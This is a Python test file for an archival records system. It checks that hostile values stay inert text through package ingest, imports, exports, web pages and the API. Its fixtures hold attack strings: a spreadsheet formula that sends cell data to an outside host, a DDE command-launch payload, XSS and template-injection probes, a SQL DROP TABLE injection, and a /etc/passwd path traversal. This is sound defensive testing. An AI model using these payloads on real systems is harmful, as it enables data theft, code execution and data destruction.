"""FAULTS 34: values made to run, to break or to mislead, by every way in and every way out.

Each is kept as the text it is, or refused by rule; what leaves is safe for what opens it.
"""

from __future__ import annotations

import csv
import io
import json
from xml.sax.saxutils import escape

import openpyxl
import pytest
from django.test import Client

from lantai.access.exporting.queries import rows_of
from lantai.access.exporting.writing import as_csv, as_lines, write_sheet
from lantai.catalogue.records.models import Record
from lantai.core.checks.runner import check_path
from lantai.core.packages.eark_writer import write_eark
from lantai.core.packages.eep import write_eep
from lantai.core.packages.opening import open_package
from lantai.core.packages.package import PackageUnreadable, TransferFile, TransferItem
from lantai.core.tables.writing import csv_blocks, xlsx_bytes
from lantai.preservation.ingesting.ingest import ingest_path
from lantai.resources.importing.run import run_import
from tests.core.packages.test_eep import WHEN
from tests.core.packages.test_eep import item as eep_item
from tests.people import make_county
from tests.resources.test_packages import EVENTS, make_package, values

TEXTS = {
    "formula": '=HYPERLINK("http://e.example/?"&A1,"看")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{ 7*7 }}{% debug %}${7*7}",
    "sql": "'; DROP TABLE catalogue_record; --",
    "rare": "𠮷𪚥𫝀\U00020bb7\U000e0100 📜",
    "nested": "[" * 900 + "]" * 900,
    "path": "../../../etc/passwd",
}
"""Kept as they are."""

FORBIDDEN = {
    "nul": "通\0知",
    "control": "通\x0b知\x1b[31m",
    "bidi": "通\u202e知",
    "surrogate": "通\ud800知",
    "megabyte": "通知" * 500_000,
}
"""Refused by rule, told of, or cleaned away."""
TOLD = {"bidi": "1-6.forbidden", "megabyte": "1-2.too-long"}
BAD = ("\0", "\x0b", "\x1b", "\u202e", "\ud800")


def marked(value: str) -> str:
    """In XML as an attacker writes it: what may not stand there as a reference to it."""
    return "".join(
        f"&#{ord(c)};" if ord(c) < 32 or 0xD800 <= ord(c) < 0xE000 else escape(c) for c in value
    )


def transfer(folder, value):
    made = make_package(folder, 1)
    path = next(made.rglob("元数据.XML"))
    path.write_text(path.read_text("utf-8").replace(values(1)["title"], marked(value)), "utf-8")
    return made


def eep(folder, value):
    record = eep_item()
    record.values["title"] = "此处题名"
    path = folder / "a.xml"
    write_eep(path, record, lambda file: io.BytesIO(b"x"), created=WHEN, unit="示例市档案局")
    path.write_text(path.read_text("utf-8").replace("此处题名", marked(value)), "utf-8")
    return path


def mets(folder, value):
    record = TransferItem({**values(1), "title": "此处题名"}, [TransferFile("1.txt")], list(EVENTS))
    made = folder / "SIP"
    write_eark(
        made,
        record,
        lambda file: io.BytesIO(b"x"),
        kind="SIP",
        created=WHEN,
        unit="局",
        version="1",
    )
    for path in made.rglob("*.xml"):
        path.write_text(path.read_text("utf-8").replace("此处题名", marked(value)), "utf-8")
    return made


PACKAGES = {"transfer": transfer, "eep": eep, "mets": mets}


@pytest.mark.parametrize("kind", PACKAGES)
def test_34_a_package_keeps_text_as_text_and_refuses_what_is_none(tmp_path, kind):
    for name, value in TEXTS.items():
        (tmp_path / name).mkdir()
        made = PACKAGES[kind](tmp_path / name, value)
        with open_package(made) as package:
            (found,) = package.items()
            assert found.values["title"] == value, name
    for name, value in FORBIDDEN.items():
        (tmp_path / name).mkdir()
        made = PACKAGES[kind](tmp_path / name, value)
        report = check_path(made, "transfer")
        told = {f"{found.check}.{found.fault}" for found in report.findings}
        assert all(len(found.message_zh) < 2_000 for found in report.findings), name
        if name in TOLD:
            assert TOLD[name] in told, name
            continue
        try:  # not XML: nothing of it is read as text
            with open_package(made) as package:
                kept = "".join(item.values.get("title", "") for item in package.items())
        except PackageUnreadable:
            kept = ""
        assert not [c for c in BAD if c in kept], name


@pytest.mark.django_db
def test_34_a_refused_package_leaves_no_record(data_folder, tmp_path):
    county = make_county()
    for name in ("control", "megabyte"):
        (tmp_path / name).mkdir()
        made = transfer(tmp_path / name, FORBIDDEN[name])
        line = ingest_path(county.act("archivist"), made, holder=county.archives, fonds="J012")
        assert line["verdict"] == "fail" and line["findings"], name
    assert not Record.objects.exists()


@pytest.fixture
def imported(data_folder, tmp_path):
    """The table, imported from a sheet, lines and a CSV file."""
    county = make_county()
    both = TEXTS | FORBIDDEN
    lines = [json.dumps({"id": f"j-{k}", "title": v, "notes": v[:50]}) for k, v in both.items()]
    (tmp_path / "a.jsonl").write_text("\n".join(lines), "utf-8")
    with (tmp_path / "a.csv").open("w", encoding="utf-8", newline="", errors="replace") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "title"])
        writer.writerows([f"c-{k}", v] for k, v in both.items() if k != "nul")
    book = openpyxl.Workbook()
    book.active.append(["id", "title"])
    for name, value in TEXTS.items():
        book.active.append([f"x-{name}", "x"])
        cell = book.active.cell(book.active.max_row, 2, value)
        cell.data_type = "s"
    book.save(tmp_path / "a.xlsx")
    for name in ("a.jsonl", "a.csv", "a.xlsx"):
        run_import(
            county.act("archivist"), path=tmp_path / name, fonds=county.fonds,
            refused_path=tmp_path / f"{name}.refused.csv",
        )  # fmt: skip
    return county


@pytest.mark.django_db
def test_34_imported_cells_stay_text_and_every_export_of_them_is_safe(imported, tmp_path):
    titles = dict(Record.objects.values_list("source_id", "title"))
    for name, value in TEXTS.items():
        assert {titles[f"{way}-{name}"] for way in "jcx"} == {value}, name
    everything = "".join(titles.values())
    assert not [c for c in BAD if c in everything]
    assert max(map(len, titles.values())) <= 4_000
    rows = list(rows_of(imported.people["archivist"]))
    for line in csv.reader(io.StringIO(b"".join(as_csv(rows)).decode("utf-8-sig"))):
        assert not [cell for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    told = [json.loads(line) for line in as_lines(rows)]
    assert {row["title"] for row in told} == set(titles.values())
    write_sheet(rows, tmp_path / "out.xlsx")
    (tmp_path / "other.xlsx").write_bytes(xlsx_bytes("表", ["a"], [[t] for t in titles.values()]))
    for name in ("out.xlsx", "other.xlsx"):
        sheet = openpyxl.load_workbook(tmp_path / name).active
        assert {cell.data_type for row in sheet for cell in row} <= {"s", "n", "inlineStr"}
    text = "".join(csv_blocks(["a"], [[t] for t in titles.values()]))
    assert not [r for r in csv.reader(io.StringIO(text)) if r[0][:1] in tuple("=+-@")]


SHOWN = {"html": "&lt;script&gt;alert(1)&lt;/script&gt;", "template": "{{ 7*7 }}{% debug %}"}


@pytest.mark.django_db
def test_34_pages_show_them_as_text(imported):
    client = Client()
    client.force_login(imported.people["archivist"])
    for name in ("html", "template"):
        record = Record.objects.get(source_id=f"j-{name}")
        page = client.get(f"/records/{record.uid}/").content.decode()
        assert SHOWN[name] in page
        assert "<script>alert(1)" not in page and "onerror=alert(1)>" not in page


@pytest.mark.django_db
def test_34_the_api_and_the_forms_refuse_by_rule_or_keep_the_text(data_folder):
    county = make_county()
    client = Client()
    client.force_login(county.people["officer"])
    deep = "[" * 100_000 + "]" * 100_000
    for body in (deep, '{"a":' * 50_000, '"\\ud800"', "\0", '{"values": {"title": "\\u0000"}}'):
        answer = client.post(
            "/api/v1/registers/donations/entries", body.encode(), content_type="application/json"
        )
        assert 400 <= answer.status_code < 500, answer.status_code
